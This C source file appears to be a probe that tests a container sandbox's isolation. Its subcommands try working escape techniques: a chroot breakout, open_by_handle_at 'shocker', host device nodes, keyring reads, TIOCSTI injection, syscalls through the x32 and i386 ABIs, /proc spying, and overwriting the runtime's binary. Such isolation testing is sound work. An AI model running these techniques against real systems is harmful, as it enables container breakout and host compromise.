/* probe WHAT ARGUMENT...: what a payload does that busybox has no command for. Prints a line for all it reaches. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* fds: every descriptor it has, and where it leads */
static void fds(void) {
  for (int fd = 3; fd < 1024; ++fd) {
    struct stat status;
    if (fstat(fd, &status) != 0)
      continue;
    char path[64], target[PATH_MAX] = "";
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    if (readlink(path, target, sizeof target - 1) < 0)
      strcpy(target, "?");
    printf("descriptor %d: %s\n", fd, target);
  }
}

/* through FILE: whether it can be opened by way of each descriptor, from 0 up, as a directory */
static void through(const char *name) {
  for (int fd = 0; fd < 256; ++fd) {
    int file = openat(fd, name, O_RDONLY);
    if (file >= 0)
      printf("reached %s through descriptor %d\n", name, fd);
    if (file >= 0)
      close(file);
  }
}

/* chroot DIRECTORY FILE: the old way out of a chroot, then FILE of the host's */
static void out_of_chroot(const char *file) {
  mkdir("/tmp/c", 0755);
  int here = open("/", O_RDONLY | O_DIRECTORY);
  if (chroot("/tmp/c") == 0 && here >= 0 && fchdir(here) == 0) {
    for (int i = 0; i < 64; ++i)
      if (chdir("..") != 0)
        break;
    if (chroot(".") == 0 && access(file, F_OK) == 0)
      printf("reached %s out of the chroot\n", file);
  }
}

/* oldroot FILE: what lies below the root, once its mounts are taken away */
static void old_root(const char *file) {
  for (int i = 0; i < 4; ++i) {
    if (umount2("/", MNT_DETACH) != 0)
      break;
    if (chdir("/") == 0 && access(file, F_OK) == 0)
      printf("reached %s below the root\n", file);
  }
  if (chdir("..") == 0 && access(file + 1, F_OK) == 0)
    printf("reached %s above the root\n", file);
}

/* shocker: opens the root of the container's file system by handle, and walks */
static void shocker(const char *root) {
  struct { struct file_handle handle; unsigned char bytes[128]; } h;
  int mount_id, base = open(root, O_RDONLY | O_DIRECTORY);
  h.handle.handle_bytes = sizeof h.bytes;
  if (base < 0 || name_to_handle_at(base, "", &h.handle, &mount_id, AT_EMPTY_PATH) != 0) {
    printf("no handle: %s\n", strerror(errno));
    return;
  }
  int fd = open_by_handle_at(base, &h.handle, O_RDONLY);
  if (fd >= 0)
    printf("reached the file system by handle\n");
  else
    printf("open_by_handle_at: %s\n", strerror(errno));
}

/* devices: makes nodes of what is the machine's, and opens them */
static void devices(void) {
  static const struct { const char *name; mode_t type; unsigned major, minor; } all[] = {
      {"mem", S_IFCHR, 1, 1},      {"kmsg", S_IFCHR, 1, 11},  {"port", S_IFCHR, 1, 4},     {"fuse", S_IFCHR, 10, 229},
      {"kvm", S_IFCHR, 10, 232},   {"loop0", S_IFBLK, 7, 0},  {"vda", S_IFBLK, 254, 0},    {"sda", S_IFBLK, 8, 0},
      {"loopc", S_IFCHR, 10, 237}, {"ram0", S_IFBLK, 1, 0},   {"ttyS0", S_IFCHR, 4, 64},   {"vcs", S_IFCHR, 7, 0},
      {"hpet", S_IFCHR, 10, 228},  {"vsock", S_IFCHR, 10, 241}, {"tty1", S_IFCHR, 4, 1},   {"userio", S_IFCHR, 10, 240}};
  for (size_t i = 0; i < sizeof all / sizeof *all; ++i) {
    char path[64];
    snprintf(path, sizeof path, "/tmp/%s", all[i].name);
    if (mknod(path, all[i].type | 0666, makedev(all[i].major, all[i].minor)) != 0) {
      printf("mknod %s: %s\n", all[i].name, strerror(errno));
      continue;
    }
    int fd = open(path, O_RDONLY | O_NONBLOCK);
    /* ENXIO and ENODEV: the kernel has no such device, but nothing forbade it */
    printf("%s %s: %s\n", fd >= 0 || errno == ENXIO || errno == ENODEV ? "reached" : "open", all[i].name,
           fd >= 0 ? "open" : strerror(errno));
    unlink(path);
  }
}

/* keys SERIAL: the session keyring of whoever started it */
static void keys(const char *serial) {
  char text[256] = "";
  long ring = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0);
  long found = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", "phial-canary", 0);
  printf("session keyring %ld, search %ld\n", ring, found);
  if (found > 0)
    printf("reached the host's key by searching\n");
  long length = syscall(SYS_keyctl, KEYCTL_READ, atol(serial), text, sizeof text - 1);
  if (length > 0)
    printf("reached the host's key %s: %s\n", serial, text);
}

/* tiocsti: pushes a line into the terminal it was started at */
static void tiocsti(void) {
  for (int fd = 0; fd < 4; ++fd) {
    int at = fd < 3 ? fd : open("/dev/tty", O_RDWR);
    const char *line = "echo pushed\n";
    int done = at >= 0;
    for (const char *c = line; done && *c; ++c)
      done = ioctl(at, TIOCSTI, c) == 0;
    printf("descriptor %d: %s\n", fd, done ? "pushed" : strerror(errno));
  }
}

/* families: the socket families that can be had */
static void families(void) {
  for (int family = 0; family < 46; ++family)
    for (int type = 1; type <= 5; ++type) {
      int fd = socket(family, type, 0);
      if (fd >= 0)
        printf("socket %d %d\n", family, type);
      if (fd >= 0)
        close(fd);
    }
}

/* abis: whether a call that is denied can be made as x32's or as i386's */
static long raw(long number, long a, long b, long c) {
  long result;
  __asm__ volatile("syscall" : "=a"(result) : "0"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
  return result;
}
static long compat(long number, long a, long b) {
  long result;
  __asm__ volatile("int $0x80" : "=a"(result) : "0"(number), "b"(a), "c"(b) : "memory");
  return result;
}
static void in_child(const char *what, long (*work)(void)) {
  fflush(stdout);
  pid_t pid = fork();
  if (pid == 0) {
    long result = work();
    printf("%s: %ld\n", what, result);
    fflush(stdout);
    _exit(0);
  }
  int status;
  waitpid(pid, &status, 0);
  if (WIFSIGNALED(status))
    printf("%s: signal %d\n", what, WTERMSIG(status));
}
static long native_mkdir(void) { return raw(SYS_mkdir, (long)"/tmp/native", 0755, 0); }
static long x32_mkdir(void) { return raw(0x40000000 | SYS_mkdir, (long)"/tmp/x32", 0755, 0); }
static long i386_mkdir(void) {
  static char *low; /* a string below 4 GiB: the static program's own are */
  low = (char *)(uintptr_t)"/tmp/i386";
  return (uintptr_t)low >> 32 ? -1 : compat(39, (long)(uintptr_t)low, 0755);
}
static long native_unshare(void) { return raw(SYS_unshare, CLONE_NEWUTS, 0, 0); }
static long clone3_call(void) {
  struct { uint64_t flags, pidfd, child, parent, signal, stack, size, tls; } a = {0};
  a.flags = CLONE_NEWUTS, a.signal = SIGCHLD;
  long pid = raw(SYS_clone3, (long)&a, sizeof a, 0);
  if (pid == 0)
    _exit(0);
  return pid;
}
static void abis(void) {
  in_child("native mkdir", native_mkdir);
  in_child("x32 mkdir", x32_mkdir);
  in_child("i386 mkdir", i386_mkdir);
  in_child("unshare", native_unshare);
  in_child("clone3", clone3_call);
  static const char *const made[] = {"/tmp/native", "/tmp/x32", "/tmp/i386"};
  for (size_t i = 0; i < 3; ++i)
    if (access(made[i], F_OK) == 0)
      printf("reached %s\n", made[i]);
}

/* spy SECONDS NEEDLE: looks into every other process again and again: its descriptors, its root, its working directory,
 * its program; NEEDLE is what the host's paths begin with */
static void spy(double seconds, const char *needle) {
  double end = now() + seconds;
  pid_t self = getpid();
  struct stat mine;
  if (stat("/", &mine) != 0)
    return;
  while (now() < end) {
    for (pid_t pid = 2; pid < 400; ++pid) {
      if (pid == self)
        continue;
      char path[128], target[PATH_MAX];
      for (int fd = -3; fd < 64; ++fd) {
        if (fd < 0)
          snprintf(path, sizeof path, "/proc/%d/%s", pid, fd == -1 ? "root" : fd == -2 ? "cwd" : "exe");
        else
          snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
        ssize_t length = readlink(path, target, sizeof target - 1);
        if (length < 0) {
          if (fd == -3)
            break; /* no such process, or none of ours */
          continue;
        }
        target[length] = 0;
        char inside[256];
        snprintf(inside, sizeof inside, "%s%s/secret", path, needle);
        if (fd == -1 && access(inside, F_OK) == 0)
          printf("reached the host by %s\n", path);
        if (fd >= 3) {
          struct stat status;
          snprintf(inside, sizeof inside, "%s/.", path);
          if (strncmp(target, "/proc/", 6) != 0 && stat(inside, &status) == 0 && (status.st_dev != mine.st_dev || status.st_ino != mine.st_ino))
            printf("reached a directory by %s: %s\n", path, target);
        }
      }
    }
  }
  printf("looked\n");
}

/* overwrite SECONDS: tries to write into the program of every other process */
static void overwrite(double seconds) {
  double end = now() + seconds;
  pid_t self = getpid();
  setvbuf(stdout, NULL, _IOLBF, 0);
  struct stat mine;
  if (stat("/bin/busybox", &mine) != 0)
    return;
  static int held[4096];
  int count = 0;
  while (now() < end) {
    for (pid_t pid = 1; pid < 200; ++pid) {
      char path[64];
      struct stat status;
      if (pid == self)
        continue;
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      int fd = count < 4096 ? open(path, O_PATH) : -1;
      if (fd < 0)
        continue;
      if (fstat(fd, &status) != 0 || (status.st_dev == mine.st_dev)) {
        close(fd);
        continue;
      }
      printf("holds a program that is not the container's: inode %lu\n", (unsigned long)status.st_ino);
      held[count++] = fd;
    }
    for (int i = 0; i < count; ++i) { /* busy until its process has gone on to another program */
      char path[64];
      snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
      int fd = open(path, O_WRONLY);
      if (fd >= 0 && pwrite(fd, "#", 1, 0) == 1)
        printf("reached the runtime's program: written\n");
      if (fd >= 0)
        close(fd);
    }
  }
  printf("tried %d\n", count);
}

/* gain: what a program with file capabilities, or of another's set-user-ID, gains */
static void gain(void) {
  FILE *file = fopen("/proc/self/status", "re");
  char line[256];
  while (file && fgets(line, sizeof line, file))
    if (strncmp(line, "Cap", 3) == 0 || strncmp(line, "Uid", 3) == 0 || strncmp(line, "NoNew", 5) == 0)
      fputs(line, stdout);
}

int main(int count, char **words) {
  const char *what = count > 1 ? words[1] : "", *first = count > 2 ? words[2] : "", *second = count > 3 ? words[3] : "";
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (strcmp(what, "fds") == 0)
    fds();
  else if (strcmp(what, "through") == 0)
    through(first);
  else if (strcmp(what, "chroot") == 0)
    out_of_chroot(first);
  else if (strcmp(what, "oldroot") == 0)
    old_root(first);
  else if (strcmp(what, "shocker") == 0)
    shocker(*first ? first : "/");
  else if (strcmp(what, "devices") == 0)
    devices();
  else if (strcmp(what, "keys") == 0)
    keys(first);
  else if (strcmp(what, "tiocsti") == 0)
    tiocsti();
  else if (strcmp(what, "families") == 0)
    families();
  else if (strcmp(what, "abis") == 0)
    abis();
  else if (strcmp(what, "spy") == 0)
    spy(atof(first), second);
  else if (strcmp(what, "overwrite") == 0)
    overwrite(atof(first));
  else if (strcmp(what, "gain") == 0)
    gain();
  else
    return 2;
  return 0;
}
